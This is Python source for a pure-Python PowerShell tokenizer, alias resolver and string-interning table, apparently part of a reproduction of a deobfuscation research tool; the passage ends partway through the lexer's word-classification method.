    "gci": "Get-ChildItem",
    "gcm": "Get-Command",
    "gcs": "Get-PSCallStack",
    "gdr": "Get-PSDrive",
    "ghy": "Get-History",
    "gi": "Get-Item",
    "gjb": "Get-Job",
    "gl": "Get-Location",
    "gm": "Get-Member",
    "gmo": "Get-Module",
    "gp": "Get-ItemProperty",
    "gps": "Get-Process",
    "group": "Group-Object",
    "gsv": "Get-Service",
    "gu": "Get-Unique",
    "gv": "Get-Variable",
    "gwmi": "Get-WmiObject",
    "h": "Get-History",
    "history": "Get-History",
    "icm": "Invoke-Command",
    "iex": "Invoke-Expression",
    "ihy": "Invoke-History",
    "ii": "Invoke-Item",
    "ipal": "Import-Alias",
    "ipcsv": "Import-Csv",
    "ipmo": "Import-Module",
    "irm": "Invoke-RestMethod",
    "ise": "powershell_ise.exe",
    "iwmi": "Invoke-WmiMethod",
    "iwr": "Invoke-WebRequest",
    "kill": "Stop-Process",
    "lp": "Out-Printer",
    "ls": "Get-ChildItem",
    "man": "help",
    "md": "mkdir",
    "measure": "Measure-Object",
    "mi": "Move-Item",
    "mount": "New-PSDrive",
    "move": "Move-Item",
    "mp": "Move-ItemProperty",
    "mv": "Move-Item",
    "nal": "New-Alias",
    "ndr": "New-PSDrive",
    "ni": "New-Item",
    "nmo": "New-Module",
    "nv": "New-Variable",
    "ogv": "Out-GridView",
    "oh": "Out-Host",
    "popd": "Pop-Location",
    "ps": "Get-Process",
    "pushd": "Push-Location",
    "pwd": "Get-Location",
    "r": "Invoke-History",
    "rbp": "Remove-PSBreakpoint",
    "rd": "Remove-Item",
    "rdr": "Remove-PSDrive",
    "ren": "Rename-Item",
    "ri": "Remove-Item",
    "rjb": "Remove-Job",
    "rm": "Remove-Item",
    "rmdir": "Remove-Item",
    "rmo": "Remove-Module",
    "rni": "Rename-Item",
    "rnp": "Rename-ItemProperty",
    "rp": "Remove-ItemProperty",
    "rv": "Remove-Variable",
    "rvpa": "Resolve-Path",
    "sajb": "Start-Job",
    "sal": "Set-Alias",
    "saps": "Start-Process",
    "sasv": "Start-Service",
    "sbp": "Set-PSBreakpoint",
    "select": "Select-Object",
    "set": "Set-Variable",
    "shcm": "Show-Command",
    "si": "Set-Item",
    "sl": "Set-Location",
    "sleep": "Start-Sleep",
    "sls": "Select-String",
    "sort": "Sort-Object",
    "sp": "Set-ItemProperty",
    "spjb": "Stop-Job",
    "spps": "Stop-Process",
    "spsv": "Stop-Service",
    "start": "Start-Process",
    "sv": "Set-Variable",
    "swmi": "Set-WmiInstance",
    "tee": "Tee-Object",
    "type": "Get-Content",
    "wget": "Invoke-WebRequest",
    "where": "Where-Object",
    "wjb": "Wait-Job",
    "write": "Write-Output",
}

# Canonical capitalization of common commands (for the random-case fix).
CANONICAL_COMMANDS: Dict[str, str] = {
    name.lower(): name
    for name in [
        "Add-Content", "Add-Member", "Add-Type", "Clear-Content",
        "Clear-Host", "Clear-Variable", "Compare-Object", "ConvertFrom-Json",
        "ConvertTo-Json", "ConvertTo-SecureString", "ConvertFrom-SecureString",
        "Copy-Item", "Export-Csv", "ForEach-Object", "Format-List",
        "Format-Table", "Get-Alias", "Get-ChildItem", "Get-Command",
        "Get-Content", "Get-Credential", "Get-Date", "Get-Host", "Get-Item",
        "Get-ItemProperty", "Get-Location", "Get-Member", "Get-Module",
        "Get-Process", "Get-Random", "Get-Service", "Get-Variable",
        "Get-WmiObject", "Group-Object", "Import-Csv", "Import-Module",
        "Invoke-Command", "Invoke-Expression", "Invoke-Item",
        "Invoke-RestMethod", "Invoke-WebRequest", "Invoke-WmiMethod",
        "Join-Path", "Measure-Object", "Move-Item", "New-Alias", "New-Item",
        "New-ItemProperty", "New-Object", "New-PSDrive", "New-Variable",
        "Out-File", "Out-GridView", "Out-Host", "Out-Null", "Out-Printer",
        "Out-String", "Read-Host", "Remove-Item", "Remove-ItemProperty",
        "Remove-Variable", "Rename-Item", "Resolve-Path", "Restart-Computer",
        "Restart-Service", "Select-Object", "Select-String", "Send-MailMessage",
        "Set-Alias", "Set-Content", "Set-ExecutionPolicy", "Set-Item",
        "Set-ItemProperty", "Set-Location", "Set-MpPreference", "Set-Variable",
        "Sort-Object", "Split-Path", "Start-BitsTransfer", "Start-Job",
        "Start-Process", "Start-Service", "Start-Sleep", "Stop-Computer",
        "Stop-Process", "Stop-Service", "Tee-Object", "Test-Connection",
        "Test-Path", "Wait-Job", "Wait-Process", "Where-Object", "Write-Debug",
        "Write-Error", "Write-Host", "Write-Output", "Write-Progress",
        "Write-Verbose", "Write-Warning",
    ]
}


def resolve_alias(name: str) -> Optional[str]:
    """Canonical command for an alias, or None when not an alias."""
    return ALIASES.get(name.lower())


def canonical_case(name: str) -> Optional[str]:
    """Proper capitalization for a known command name, or None."""
    return CANONICAL_COMMANDS.get(name.lower())


def canonicalize_command(name: str) -> str:
    """Resolve alias then fix case; unknown names pass through."""
    resolved = resolve_alias(name)
    if resolved is not None:
        return resolved
    cased = canonical_case(name)
    if cased is not None:
        return cased
    return name
