"""Bounded string interning for the lexer's token stream.

Obfuscated corpora repeat the same small strings relentlessly — ``iex``,
``+``, operator spellings, variable names, decoded fragment text — and
every recovered piece is re-lexed, so the same content strings are
rebuilt thousands of times per run.  Interning collapses them to one
object each: less allocation, cheaper downstream dict/set hashing (CPython
caches a str's hash on the object), and pointer-fast equality on the
common path.

``sys.intern`` is deliberately not used: it is unbounded (a hostile
script could pin arbitrary amounts of memory in a long-running ``repro
serve`` fleet) and it cannot report hit rates.  This table is a plain
bounded dict with hit/miss counters; the pipeline snapshots the counters
around each run and records the delta in
:class:`~repro.obs.PipelineStats` (``intern_hits`` / ``intern_misses``),
so the win is observable per run and in ``/metrics``.

Strings longer than :data:`MAX_INTERNABLE_LENGTH` pass through
uncounted — a 2 MB base64 blob is never worth a table slot and would
only thrash the budget.
"""

from typing import Dict, Tuple

# Table budget: ~64k distinct short strings covers the token vocabulary
# of any real corpus; beyond it new strings pass through un-interned
# (existing entries keep hitting).
MAX_TABLE_ENTRIES = 65_536
MAX_INTERNABLE_LENGTH = 128

_table: Dict[str, str] = {}
_hits = 0
_misses = 0


def intern_string(text: str) -> str:
    """Return the canonical object for *text*, interning it if short."""
    global _hits, _misses
    if len(text) > MAX_INTERNABLE_LENGTH:
        return text
    cached = _table.get(text)
    if cached is not None:
        _hits += 1
        return cached
    _misses += 1
    if len(_table) < MAX_TABLE_ENTRIES:
        _table[text] = text
    return text


def counters() -> Tuple[int, int]:
    """Lifetime ``(hits, misses)`` of the process-wide table.

    Snapshot before and after a pipeline run and subtract to get that
    run's delta (what :class:`~repro.obs.PipelineStats` records).
    """
    return _hits, _misses


def table_size() -> int:
    return len(_table)


def clear() -> None:
    """Reset table and counters (test isolation only)."""
    global _hits, _misses
    _table.clear()
    _hits = 0
    _misses = 0
