"""Pure-Python PowerShell language front-end.

This subpackage stands in for Microsoft's ``System.Management.Automation``
tokenizer and AST, which the paper relies on.  It provides:

- :func:`repro.pslang.tokenizer.tokenize` — a flat, ``PSParser.Tokenize``-style
  token scan used by the token-parsing deobfuscation phase;
- :func:`repro.pslang.parser.parse` — a recursive-descent parser producing an
  AST whose node taxonomy mirrors ``System.Management.Automation.Language``
  (``PipelineAst``, ``BinaryExpressionAst``, ...), with byte-precise source
  extents so obfuscated pieces can be replaced in place;
- :mod:`repro.pslang.visitor` — post-order traversal utilities matching the
  paper's Algorithm 1 walk.
"""

from repro.pslang.ast_nodes import Ast, ScriptBlockAst
from repro.pslang.errors import LexError, ParseError, PSSyntaxError
from repro.pslang.parser import parse
from repro.pslang.tokenizer import tokenize
from repro.pslang.tokens import PSToken, PSTokenType

__all__ = [
    "Ast",
    "ScriptBlockAst",
    "LexError",
    "ParseError",
    "PSSyntaxError",
    "parse",
    "tokenize",
    "PSToken",
    "PSTokenType",
]
