"""Context-sensitive PowerShell tokenizer.

PowerShell cannot be lexed context-free: a bareword is a command name at
statement start but an argument after one, ``-split`` is an operator in
expression context but a parameter in argument context, and ``[`` opens a
type literal or an index depending on what precedes it.  The real engine
solves this with a mode-driven tokenizer; :class:`Lexer` reproduces that
with an explicit mode stack.

The produced :class:`~repro.pslang.tokens.PSToken` stream is consumed both
by the flat-token deobfuscation phase (via :func:`repro.pslang.tokenizer
.tokenize`) and by the recursive-descent parser.
"""

import enum
import re
from typing import List, Optional

from repro.pslang import charsets
from repro.pslang.errors import LexError
from repro.pslang.interning import intern_string
from repro.pslang.tokens import PSToken, PSTokenType

# -- precompiled scan tables -------------------------------------------------
#
# The inner loops below used to advance one character per Python-level
# iteration (peek / append / pos += 1).  Each is now a precompiled regex
# that consumes a whole run in one C-level match; the per-character
# Python loop survives only for the rare constructs (escapes, embedded
# subexpressions) between runs.

_SINGLE_QUOTE_CHARS = frozenset(charsets.SINGLE_QUOTES)
_DOUBLE_QUOTE_CHARS = frozenset(charsets.DOUBLE_QUOTES)
_WHITESPACE_CHARS = frozenset(charsets.WHITESPACE)

# A run of horizontal whitespace (including NBSP "whitespacing").
_WS_RUN = re.compile("[%s]+" % re.escape(charsets.WHITESPACE))

# Single-quoted string body: everything up to the next quote variant.
_SQ_BODY = re.compile("[^%s]+" % re.escape(charsets.SINGLE_QUOTES))

# Double-quoted string body: stops at quote variants, backtick escapes
# and '$' (subexpression or literal dollar, resolved by the slow path).
_DQ_BODY = re.compile("[^%s`$]+" % re.escape(charsets.DOUBLE_QUOTES))

# Simple variable name runs ($name); ':' drive/scope separators are
# resolved by lookahead between runs.  \w == isalnum() + underscore.
_VAR_NAME_RUN = re.compile(r"\w+")

# Member names after '.' / '::' — word characters plus cosmetic ticks.
_MEMBER_RUN = re.compile(r"[\w`]+")

# Bareword content: runs of anything that cannot terminate or escape a
# word.  ARGS mode admits '=' inside arguments (base64 padding).
_WORD_STOP = "".join(
    sorted(
        set(" \t\f\v\xa0\r\n|;&(){}[],#=<>")
        | _SINGLE_QUOTE_CHARS
        | _DOUBLE_QUOTE_CHARS
        | {"`", "$"}
    )
)
_WORD_CHUNK = re.compile("[^%s]+" % re.escape(_WORD_STOP))
_WORD_CHUNK_ARGS = re.compile(
    "[^%s]+" % re.escape(_WORD_STOP.replace("=", ""))
)


class Mode(enum.Enum):
    """What the lexer expects next."""

    START = "start"  # beginning of a statement: command or expression
    ARGS = "args"    # inside a command's argument list
    EXPR = "expr"    # inside an expression
    HASH = "hash"    # inside a hashtable literal, expecting a key


class _Group:
    """Bookkeeping for one open grouping construct."""

    __slots__ = ("opener", "inner_mode", "outer_mode")

    def __init__(self, opener: str, inner_mode: Mode, outer_mode: Mode):
        self.opener = opener
        self.inner_mode = inner_mode
        self.outer_mode = outer_mode


# Tokens that can legally end a value; `[` after one of these is an index,
# `.` after one is member access, a dash-word after one is an operator.
_VALUE_ENDERS = {
    PSTokenType.VARIABLE,
    PSTokenType.STRING,
    PSTokenType.NUMBER,
    PSTokenType.MEMBER,
    PSTokenType.TYPE,
}
_VALUE_END_GROUPS = {")", "]", "}"}


class Lexer:
    """Tokenize a full script into a list of :class:`PSToken`."""

    def __init__(self, source: str):
        self.source = source
        self.pos = 0
        self.length = len(source)
        self.tokens: List[PSToken] = []
        self.mode = Mode.START
        self.groups: List[_Group] = []
        # True right after a call operator (& or .) - next word is a command.
        self._pending_command = False

    # -- character helpers -------------------------------------------------

    def _peek(self, offset: int = 0) -> str:
        index = self.pos + offset
        if index < self.length:
            return self.source[index]
        return ""

    def _at_end(self) -> bool:
        return self.pos >= self.length

    # -- token emission ----------------------------------------------------

    def _emit(
        self,
        type_: PSTokenType,
        content: str,
        start: int,
        quote: str = "",
    ) -> PSToken:
        token = PSToken(
            type=type_,
            content=intern_string(content),
            start=start,
            length=self.pos - start,
            text=intern_string(self.source[start:self.pos]),
            quote=quote,
        )
        self.tokens.append(token)
        return token

    def _last_significant(self) -> Optional[PSToken]:
        for token in reversed(self.tokens):
            if token.type in (PSTokenType.COMMENT, PSTokenType.LINE_CONTINUATION):
                continue
            return token
        return None

    def _after_value(self) -> bool:
        """True when the previous token could end a value expression."""
        last = self._last_significant()
        if last is None:
            return False
        if last.type in _VALUE_ENDERS:
            return True
        return last.type is PSTokenType.GROUP_END and last.content in _VALUE_END_GROUPS

    # -- main loop -----------------------------------------------------------

    def tokenize(self) -> List[PSToken]:
        while not self._at_end():
            ch = self._peek()
            if ch in _WHITESPACE_CHARS:
                self.pos = _WS_RUN.match(self.source, self.pos).end()
            elif ch in charsets.NEWLINES:
                self._lex_newline()
            elif ch == "`" and self._peek(1) != "" and (
                self._peek(1) in charsets.NEWLINES
            ):
                self._lex_line_continuation()
            elif ch == "#":
                self._lex_line_comment()
            elif ch == "<" and self._peek(1) == "#":
                self._lex_block_comment()
            elif ch in _SINGLE_QUOTE_CHARS:
                self._lex_single_quoted()
            elif ch in _DOUBLE_QUOTE_CHARS:
                self._lex_double_quoted()
            elif ch == "@" and (
                self._peek(1) in _SINGLE_QUOTE_CHARS
                or self._peek(1) in _DOUBLE_QUOTE_CHARS
            ):
                self._lex_here_string()
            elif ch == "$":
                self._lex_variable()
            elif ch == "@" and self._peek(1) != "" and self._peek(1) in "({":
                self._lex_at_group()
            elif ch == "@" and (self._peek(1).isalpha() or self._peek(1) == "_"):
                self._lex_splat_variable()
            elif ch in "({":
                self._lex_group_start(ch)
            elif ch == "[":
                self._lex_open_bracket()
            elif ch in ")}]":
                self._lex_group_end(ch)
            elif ch == ";":
                self._lex_separator()
            elif ch == "|" or (ch == "&" and self._peek(1) == "&"):
                self._lex_pipe_or_chain()
            elif ch == "&":
                self._lex_call_operator()
            elif ch == ",":
                self._lex_simple_operator(",", 1)
            elif ch == "%" and (
                self.mode is Mode.START or self._pending_command
            ):
                # '%' at command position is the ForEach-Object alias.
                start = self.pos
                self.pos += 1
                self._classify_word("%", start)
            elif charsets.is_dash(ch):
                self._lex_dash()
            elif ch in charsets.DIGITS:
                self._lex_number()
            elif ch == ".":
                self._lex_dot()
            elif ch == ":" and self._peek(1) == ":":
                self._lex_simple_operator("::", 2)
                self._lex_member_name()
            elif ch in "+*/%!=<>":
                self._lex_symbol_operator()
            else:
                self._lex_word()
        return self.tokens

    # -- trivial tokens ------------------------------------------------------

    def _lex_newline(self) -> None:
        start = self.pos
        if self._peek() == "\r" and self._peek(1) == "\n":
            self.pos += 2
        else:
            self.pos += 1
        self._emit(PSTokenType.NEWLINE, "\n", start)
        self._reset_mode_after_terminator()

    def _lex_line_continuation(self) -> None:
        start = self.pos
        self.pos += 1  # backtick
        if self._peek() == "\r" and self._peek(1) == "\n":
            self.pos += 2
        else:
            self.pos += 1
        self._emit(PSTokenType.LINE_CONTINUATION, "`", start)

    def _lex_line_comment(self) -> None:
        start = self.pos
        while not self._at_end() and self._peek() not in charsets.NEWLINES:
            self.pos += 1
        self._emit(PSTokenType.COMMENT, self.source[start:self.pos], start)

    def _lex_block_comment(self) -> None:
        start = self.pos
        end = self.source.find("#>", self.pos + 2)
        if end == -1:
            raise LexError("unterminated block comment", start)
        self.pos = end + 2
        self._emit(PSTokenType.COMMENT, self.source[start:self.pos], start)

    def _lex_separator(self) -> None:
        start = self.pos
        self.pos += 1
        self._emit(PSTokenType.STATEMENT_SEPARATOR, ";", start)
        self._reset_mode_after_terminator()

    def _reset_mode_after_terminator(self) -> None:
        if self.groups and self.groups[-1].opener == "@{":
            self.mode = Mode.HASH
        else:
            self.mode = Mode.START
        self._pending_command = False

    # -- strings ---------------------------------------------------------------

    def _lex_single_quoted(self) -> None:
        start = self.pos
        self.pos += 1
        source = self.source
        pieces: List[str] = []
        while True:
            run = _SQ_BODY.match(source, self.pos)
            if run:
                pieces.append(run.group())
                self.pos = run.end()
            if self._at_end():
                raise LexError("unterminated single-quoted string", start)
            # At a quote variant: doubled means an escaped quote.
            if self._peek(1) in _SINGLE_QUOTE_CHARS:
                pieces.append("'")
                self.pos += 2
                continue
            self.pos += 1
            break
        self._emit(PSTokenType.STRING, "".join(pieces), start, quote="'")
        self._after_string_mode()

    _ESCAPES = {
        "0": "\0", "a": "\a", "b": "\b", "e": "\x1b", "f": "\f",
        "n": "\n", "r": "\r", "t": "\t", "v": "\v",
    }

    def _lex_double_quoted(self) -> None:
        start = self.pos
        self.pos += 1
        source = self.source
        pieces: List[str] = []
        while True:
            run = _DQ_BODY.match(source, self.pos)
            if run:
                pieces.append(run.group())
                self.pos = run.end()
            if self._at_end():
                raise LexError("unterminated double-quoted string", start)
            ch = self._peek()
            if ch in _DOUBLE_QUOTE_CHARS:
                if self._peek(1) in _DOUBLE_QUOTE_CHARS:
                    pieces.append('"')
                    self.pos += 2
                    continue
                self.pos += 1
                break
            if ch == "`":
                nxt = self._peek(1)
                if nxt == "":
                    raise LexError("unterminated escape in string", self.pos)
                pieces.append(self._ESCAPES.get(nxt.lower(), nxt))
                self.pos += 2
                continue
            if ch == "$" and self._peek(1) == "(":
                # Embedded subexpression: copy raw, balancing parens so a
                # quote inside "$( ... )" does not end the string.
                depth = 0
                sub_start = self.pos
                while not self._at_end():
                    sub = self._peek()
                    if sub == "(":
                        depth += 1
                    elif sub == ")":
                        depth -= 1
                        if depth == 0:
                            self.pos += 1
                            break
                    elif sub == "`":
                        self.pos += 1
                    self.pos += 1
                pieces.append(self.source[sub_start:self.pos])
                continue
            pieces.append(ch)
            self.pos += 1
        self._emit(PSTokenType.STRING, "".join(pieces), start, quote='"')
        self._after_string_mode()

    def _lex_here_string(self) -> None:
        start = self.pos
        quote = self._peek(1)
        single = charsets.is_single_quote(quote)
        self.pos += 2
        # Skip to end of line; content starts on the next line.
        while not self._at_end() and self._peek() not in charsets.NEWLINES:
            self.pos += 1
        if self._peek() == "\r":
            self.pos += 1
        if self._peek() == "\n":
            self.pos += 1
        content_start = self.pos
        closer_positions = []
        while not self._at_end():
            if self._peek() in charsets.NEWLINES:
                line_end = self.pos
                if self._peek() == "\r" and self._peek(1) == "\n":
                    self.pos += 2
                else:
                    self.pos += 1
                nxt = self._peek()
                if (
                    (single and charsets.is_single_quote(nxt))
                    or (not single and charsets.is_double_quote(nxt))
                ) and self._peek(1) == "@":
                    closer_positions.append(line_end)
                    self.pos += 2
                    break
            else:
                self.pos += 1
        if not closer_positions:
            raise LexError("unterminated here-string", start)
        content = self.source[content_start:closer_positions[0]]
        if not single:
            content = content.replace("``", "\x00").replace("`", "")
            content = content.replace("\x00", "`")
        self._emit(
            PSTokenType.STRING, content, start, quote="@'" if single else '@"'
        )
        self._after_string_mode()

    def _after_string_mode(self) -> None:
        if self.mode is Mode.START:
            self.mode = Mode.EXPR
        # HASH mode: a string key stays until '=' switches to EXPR.

    # -- variables ---------------------------------------------------------------

    def _lex_variable(self) -> None:
        start = self.pos
        self.pos += 1  # $
        ch = self._peek()
        if ch == "{":
            self.pos += 1
            name_start = self.pos
            while not self._at_end() and self._peek() != "}":
                self.pos += 1
            if self._at_end():
                raise LexError("unterminated braced variable", start)
            name = self.source[name_start:self.pos]
            self.pos += 1
        elif ch == "(":
            # "$(" at top level: subexpression group.
            self.pos += 1
            self._emit(PSTokenType.GROUP_START, "$(", start)
            self._push_group("$(", Mode.START)
            return
        elif ch in charsets.SPECIAL_VARIABLES:
            self.pos += 1
            name = ch
        elif ch and (ch.isalnum() or ch == "_"):
            name_start = self.pos
            while True:
                run = _VAR_NAME_RUN.match(self.source, self.pos)
                if run:
                    self.pos = run.end()
                # ':' only participates when followed by a name char
                # ($env:Path yes, "$x:" at end no).
                if self._peek() == ":" and (
                    self._peek(1).isalnum() or self._peek(1) == "_"
                ):
                    self.pos += 1
                    continue
                break
            name = self.source[name_start:self.pos]
        else:
            # Lone '$' — PowerShell's $$ handled above; treat as variable '$'.
            name = "$"
        self._emit(PSTokenType.VARIABLE, name, start)
        if self.mode in (Mode.START,):
            self.mode = Mode.EXPR
        self._pending_command = False

    def _lex_splat_variable(self) -> None:
        start = self.pos
        self.pos += 1  # @
        name_start = self.pos
        while not self._at_end() and (self._peek().isalnum() or self._peek() == "_"):
            self.pos += 1
        name = self.source[name_start:self.pos]
        self._emit(PSTokenType.VARIABLE, name, start)

    # -- groups -------------------------------------------------------------------

    def _push_group(self, opener: str, inner_mode: Mode) -> None:
        self.groups.append(_Group(opener, inner_mode, self.mode))
        self.mode = inner_mode
        self._pending_command = False

    def _lex_at_group(self) -> None:
        start = self.pos
        opener = "@" + self._peek(1)
        self.pos += 2
        self._emit(PSTokenType.GROUP_START, opener, start)
        self._push_group(opener, Mode.HASH if opener == "@{" else Mode.START)

    def _lex_group_start(self, ch: str) -> None:
        start = self.pos
        self.pos += 1
        self._emit(PSTokenType.GROUP_START, ch, start)
        self._push_group(ch, Mode.START)

    def _lex_open_bracket(self) -> None:
        start = self.pos
        last = self._last_significant()
        after_type = last is not None and last.type is PSTokenType.TYPE
        # Indexing requires adjacency in PowerShell: `$a[0]` indexes but
        # `$a [0]` does not (it is a cast/type in expression position).
        adjacent = last is not None and last.end == self.pos
        if self._after_value() and adjacent and not after_type:
            # Index access: $a[0]
            self.pos += 1
            self._emit(PSTokenType.GROUP_START, "[", start)
            self._push_group("[", Mode.START)
            return
        # Cast chains ([string][char]39) lex the second bracket as a type
        # too; fall back to an index group when it is not a valid type.
        type_token = self._try_lex_type(start)
        if type_token is None:
            self.pos += 1
            self._emit(PSTokenType.GROUP_START, "[", start)
            self._push_group("[", Mode.START)

    def _try_lex_type(self, start: int) -> Optional[PSToken]:
        """Attempt to lex ``[Some.Type[]]`` starting at ``[``."""
        pos = self.pos + 1
        depth = 1
        while pos < self.length:
            ch = self.source[pos]
            if ch == "[":
                depth += 1
            elif ch == "]":
                depth -= 1
                if depth == 0:
                    break
            elif not (ch.isalnum() or ch in "._,+ `"):
                return None
            pos += 1
        if depth != 0:
            return None
        inner = self.source[start + 1:pos].replace("`", "").strip()
        if not inner or not (inner[0].isalpha() or inner[0] == "_"):
            return None
        self.pos = pos + 1
        token = self._emit(PSTokenType.TYPE, inner, start)
        if self.mode is Mode.START:
            self.mode = Mode.EXPR
        return token

    def _lex_group_end(self, ch: str) -> None:
        start = self.pos
        self.pos += 1
        self._emit(PSTokenType.GROUP_END, ch, start)
        closed: Optional[_Group] = None
        if self.groups:
            closed = self.groups.pop()
        if closed is not None:
            # Back in the enclosing context: a command keeps binding
            # arguments/parameters (ARGS), an expression continues (EXPR).
            # START means the group *began* an expression statement, so
            # what follows is expression continuation.
            if closed.outer_mode is Mode.START:
                self.mode = Mode.EXPR
            else:
                self.mode = closed.outer_mode
        else:
            self.mode = Mode.EXPR

    # -- operators -----------------------------------------------------------------

    def _lex_pipe_or_chain(self) -> None:
        start = self.pos
        ch = self._peek()
        if ch == "|" and self._peek(1) == "|":
            self.pos += 2
            self._emit(PSTokenType.OPERATOR, "||", start)
        elif ch == "&":
            self.pos += 2
            self._emit(PSTokenType.OPERATOR, "&&", start)
        else:
            self.pos += 1
            self._emit(PSTokenType.OPERATOR, "|", start)
        self.mode = Mode.START
        self._pending_command = False

    def _lex_call_operator(self) -> None:
        start = self.pos
        self.pos += 1
        self._emit(PSTokenType.OPERATOR, "&", start)
        self.mode = Mode.START
        self._pending_command = True

    def _lex_simple_operator(self, text: str, width: int) -> None:
        start = self.pos
        self.pos += width
        self._emit(PSTokenType.OPERATOR, text, start)

    def _lex_dot(self) -> None:
        start = self.pos
        nxt = self._peek(1)
        if nxt == ".":
            self.pos += 2
            self._emit(PSTokenType.OPERATOR, "..", start)
            return
        if self._after_value():
            self.pos += 1
            self._emit(PSTokenType.OPERATOR, ".", start)
            self._lex_member_name()
            return
        if nxt in charsets.DIGITS:
            self._lex_number()
            return
        # Dot-source / call operator: `. 'iex' args` or `.('iex')`.
        self.pos += 1
        self._emit(PSTokenType.OPERATOR, ".", start)
        self.mode = Mode.START
        self._pending_command = True

    def _lex_member_name(self) -> None:
        start = self.pos
        if self._at_end():
            return
        ch = self._peek()
        if not (ch.isalpha() or ch == "_" or ch == "`"):
            return
        run = _MEMBER_RUN.match(self.source, self.pos)
        if run:
            self.pos = run.end()
        content = self.source[start:self.pos].replace("`", "")
        self._emit(PSTokenType.MEMBER, content, start)

    def _lex_dash(self) -> None:
        start = self.pos
        nxt = self._peek(1)
        # Dash-word: operator or parameter depending on mode.
        if nxt.isalpha() or nxt == "`":
            pos = self.pos + 1
            while pos < self.length and (
                self.source[pos].isalnum()
                or self.source[pos] in "_`"
                or (
                    charsets.is_dash(self.source[pos])
                    and self.mode is Mode.ARGS
                )
                or (self.source[pos] == ":" and self.mode is Mode.ARGS)
            ):
                pos += 1
            word = self.source[self.pos + 1:pos].replace("`", "")
            lowered = word.lower()
            if self.mode in (Mode.EXPR, Mode.HASH) or (
                self.mode is Mode.START
                and lowered in charsets.ALL_DASH_OPERATORS
            ):
                if lowered in charsets.ALL_DASH_OPERATORS:
                    self.pos = pos
                    self._emit(PSTokenType.OPERATOR, "-" + lowered, start)
                    return
            if self.mode in (Mode.ARGS, Mode.START):
                self.pos = pos
                if self._peek() == ":":  # -Param:value form
                    self.pos += 1
                content = self.source[start:self.pos].replace("`", "")
                self._emit(PSTokenType.COMMAND_PARAMETER, content, start)
                return
            # EXPR-mode dash-word that is not an operator: unary minus of a
            # bareword makes no sense; treat as argument-ish word.
            self.pos = pos
            self._emit(
                PSTokenType.COMMAND_ARGUMENT,
                self.source[start:self.pos].replace("`", ""),
                start,
            )
            return
        if nxt in charsets.DIGITS or (nxt == "." and self._peek(2) in charsets.DIGITS):
            if not self._after_value():
                self._lex_number()
                return
        if charsets.is_dash(nxt):
            self.pos += 2
            self._emit(PSTokenType.OPERATOR, "--", start)
            return
        if nxt == "=":
            self.pos += 2
            self._emit(PSTokenType.OPERATOR, "-=", start)
            self.mode = Mode.START if not self.groups else self.mode
            self._enter_rhs_mode()
            return
        self.pos += 1
        self._emit(PSTokenType.OPERATOR, "-", start)

    def _lex_symbol_operator(self) -> None:
        start = self.pos
        ch = self._peek()
        nxt = self._peek(1)
        two = ch + nxt
        if two in ("+=", "*=", "/=", "%=", "==", "!=", ">=", "<=", "++", ">>"):
            self.pos += 2
            self._emit(PSTokenType.OPERATOR, two, start)
            if two.endswith("=") and two not in ("==", "!=", ">=", "<="):
                self._enter_rhs_mode()
            return
        if ch == "2" :  # pragma: no cover - redirections handled in word lexing
            pass
        self.pos += 1
        self._emit(PSTokenType.OPERATOR, ch, start)
        if ch == "=":
            self._enter_rhs_mode()
        elif self.mode is Mode.HASH:
            pass
        elif self.mode is Mode.START:
            self.mode = Mode.EXPR

    def _enter_rhs_mode(self) -> None:
        """After an assignment operator the RHS is a full statement."""
        self.mode = Mode.START
        self._pending_command = False

    # -- numbers and words -------------------------------------------------------

    def _lex_number(self) -> None:
        start = self.pos
        if charsets.is_dash(self._peek()) or self._peek() == "+":
            self.pos += 1
        if self._peek() == "0" and self._peek(1).lower() == "x":
            self.pos += 2
            while not self._at_end() and self._peek() in charsets.HEX_DIGITS:
                self.pos += 1
        else:
            seen_dot = False
            while not self._at_end():
                ch = self._peek()
                if ch in charsets.DIGITS:
                    self.pos += 1
                elif ch == "." and not seen_dot and self._peek(1) in charsets.DIGITS:
                    seen_dot = True
                    self.pos += 1
                elif ch.lower() == "e" and (
                    self._peek(1) in charsets.DIGITS
                    or (self._peek(1) in "+-" and self._peek(2) in charsets.DIGITS)
                ):
                    self.pos += 2
                    while not self._at_end() and self._peek() in charsets.DIGITS:
                        self.pos += 1
                    break
                else:
                    break
        # Multiplier / type suffix: kb, mb, gb, tb, pb, l, d.
        suffix_start = self.pos
        while not self._at_end() and self._peek().isalpha():
            self.pos += 1
        suffix = self.source[suffix_start:self.pos].lower()
        if suffix and suffix not in charsets.NUMERIC_MULTIPLIERS and suffix not in (
            "l", "d", "kb", "mb", "gb", "tb", "pb",
        ):
            # Not a number after all (e.g. bareword '2fa'): rewind and lex
            # the whole thing as a word.
            self.pos = start
            self._lex_word()
            return
        if self.mode is Mode.ARGS:
            # In argument position a number must end at a word boundary,
            # otherwise the whole thing is a string argument ("3.txt").
            nxt = self._peek()
            if nxt and not (
                nxt in self._WORD_TERMINATORS
                or charsets.is_single_quote(nxt)
                or charsets.is_double_quote(nxt)
            ):
                self.pos = start
                self._lex_word()
                return
        self._emit(PSTokenType.NUMBER, self.source[start:self.pos], start)
        if self.mode is Mode.START:
            self.mode = Mode.EXPR

    _WORD_TERMINATORS = set(" \t\f\v\xa0\r\n|;&(){}[]'\"`,#=<>")

    def _lex_word(self) -> None:
        start = self.pos
        source = self.source
        # '=' may appear inside command arguments (base64 padding);
        # everywhere else it terminates the word.
        chunk = _WORD_CHUNK_ARGS if self.mode is Mode.ARGS else _WORD_CHUNK
        pieces: List[str] = []
        while self.pos < self.length:
            ch = source[self.pos]
            if ch == "`":
                nxt = self._peek(1)
                if nxt and nxt not in charsets.NEWLINES:
                    pieces.append(nxt)
                    self.pos += 2
                    continue
                break  # backtick before newline/EOF terminates the word
            run = chunk.match(source, self.pos)
            if run is None:
                break  # terminator: stop char, quote variant, or '$'
            pieces.append(run.group())
            self.pos = run.end()
        if self.pos == start:
            # Unrecognized character; consume it as UNKNOWN to guarantee
            # progress (robustness on malformed wild samples).
            self.pos += 1
            self._emit(PSTokenType.UNKNOWN, self.source[start:self.pos], start)
            return
        word = "".join(pieces)
        self._classify_word(word, start)

    def _classify_word(self, word: str, start: int) -> None:
        lowered = word.lower()
        if self.mode is Mode.HASH:
            self._emit(PSTokenType.MEMBER, word, start)
            return
        if self._pending_command:
            self._emit(PSTokenType.COMMAND, word, start)
            self._pending_command = False
            self.mode = Mode.ARGS
            return
        if self.mode is Mode.START:
            if lowered in charsets.KEYWORDS:
                self._emit(PSTokenType.KEYWORD, word, start)
                if lowered in ("function", "filter", "workflow"):
                    self._pending_function_name()
                return
            self._emit(PSTokenType.COMMAND, word, start)
